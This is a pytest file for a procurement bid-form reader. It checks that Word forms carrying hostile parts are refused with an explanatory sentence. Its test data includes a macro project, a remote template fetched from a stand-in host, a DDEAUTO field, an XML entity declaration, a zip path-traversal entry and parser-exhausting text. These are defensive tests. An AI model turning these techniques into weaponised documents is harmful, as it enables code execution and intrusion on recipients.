"""Forms that run, fetch, hide or break are refused with a sentence
before anything of them is read.
"""

import time
import zipfile

import docx
import pytest

from evidence.finding import BadInput
from tender.intake.bid_form import read_form
from tender.intake.bid_form.form_questions import FormQuestions
from tests.bid_forms import a_form
from tests.factories import a_procurement

ASKING = FormQuestions(a_procurement())


def changed(tmp_path, name, content, instead=None):
    """An invented form with one part added or replaced."""
    before, after = a_form(tmp_path / "sound.docx"), tmp_path / "form.docx"
    with (
        zipfile.ZipFile(before) as source,
        zipfile.ZipFile(after, "w", zipfile.ZIP_DEFLATED) as made,
    ):
        for one in source.namelist():
            if one != name:
                made.writestr(one, source.read(one))
        made.writestr(
            name, content if instead is None else source.read(name).replace(instead, content)
        )
    return after


def refusal(path):
    """The sentence with which a form is refused."""
    with pytest.raises(BadInput) as refused:
        read_form(path, ASKING)
    return str(refused.value)


MACROS = b"application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TEMPLATE = (
    b"<Relationships "
    b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Target="http://x.example/t.dotm" TargetMode="External"\n'
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b"/></Relationships>"
)


@pytest.mark.parametrize(
    ("name", "content", "instead", "says"),
    [
        ("word/vbaProject.bin", b"x", None, "a macro (VBA project)"),
        ("[Content_Types].xml", MACROS, PLAIN, "a Word document with macros (.docm)"),
        ("word/embeddings/oleObject1.bin", b"x", None, "an embedded object"),
        (
            "word/_rels/settings.xml.rels",
            TEMPLATE,
            None,
            "the file reaches out to “http://x.example/t.dotm”",
        ),
        (
            "word/document.xml",
            b"<!DOCTYPE x [<!ENTITY a 'b'>]><w:document",
            b"<w:document",
            "a document type declaration",
        ),
        ("word/document.xml", b"<w:document><w:p", b"<w:document", "damaged and cannot be read"),
        (
            "word/document.xml",
            b"<w:tbl>" * 300 + b"</w:tbl>" * 300 + b"</w:body>",
            b"</w:body>",
            "damaged and cannot be read",
        ),
        (
            "word/document.xml",
            (
                b'<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\x '
                b"</w:instrText></w:r></w:p></w:body>"
            ),
            b"</w:body>",
            "fetches from outside (DDEAUTO)",
        ),
        ("word/styles.xml", b"", None, "damaged and cannot be read"),
        ("../../evil.xml", b"x", None, "leads out of the file"),
    ],
)
def test_a_form_that_runs_fetches_or_is_damaged_is_refused(tmp_path, name, content, instead, says):
    """One sentence that says why, and what to do."""
    assert says in refusal(changed(tmp_path, name, content, instead))


def test_a_form_with_a_password_and_one_that_is_no_document_are_refused(tmp_path):
    """By what they are, whatever they are called."""
    for content, says in (
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 600, "one with a password"),
        (b"plain", "neither a Word document"),
    ):
        (tmp_path / "form.docx").write_bytes(content)
        assert says in refusal(tmp_path / "form.docx")


def test_invisible_characters_are_left_out_and_named(tmp_path):
    """Those that turn the direction of text have no place in an answer that people mark."""
    document = docx.Document()
    document.add_heading("Q1 Safeguarding", 2)
    document.add_paragraph("We call \u202aon time\u202c.")
    document.save(str(tmp_path / "form.docx"))
    form = read_form(tmp_path / "form.docx", ASKING)
    assert [one.text for one in form.answers] == ["We call on time."] and form.notes == (
        "1 invisible control character left out",
    )


@pytest.mark.parametrize(
    "text",
    [
        "☒" * 1_300 + "x",
        "(" * 3_900,
        "-" * 3_900 + "lot",
        "lot " * 900,
        "yes " * 900 + "!",
        " " * 3_900 + "x",
        "a:" + "(" * 3_900,
        "Q1 (words " * 390,
    ],
)
def test_a_line_made_to_keep_a_reader_busy_keeps_it_for_no_time(tmp_path, text):
    """A hundred and twenty such lines, in paragraphs and in cells."""
    document = docx.Document()
    document.add_heading("Q1 Safeguarding", 2)
    table = document.add_table(20, 1)
    for row in table.rows:
        row.cells[0].text = text
    for _ in range(100):
        document.add_paragraph(text)
    document.save(str(tmp_path / "form.docx"))
    before = time.process_time()
    assert read_form(tmp_path / "form.docx", ASKING).answers
    assert time.process_time() - before < 60


def test_a_form_that_asks_over_and_over_is_refused(tmp_path):
    """A thousand times is more than any form does."""
    document = docx.Document()
    for number in range(1_100):
        document.add_paragraph(f"Question {1 + number % 2}")
        document.add_paragraph("x")
    document.save(str(tmp_path / "form.docx"))
    assert "asks more than 1,000 times" in refusal(tmp_path / "form.docx")
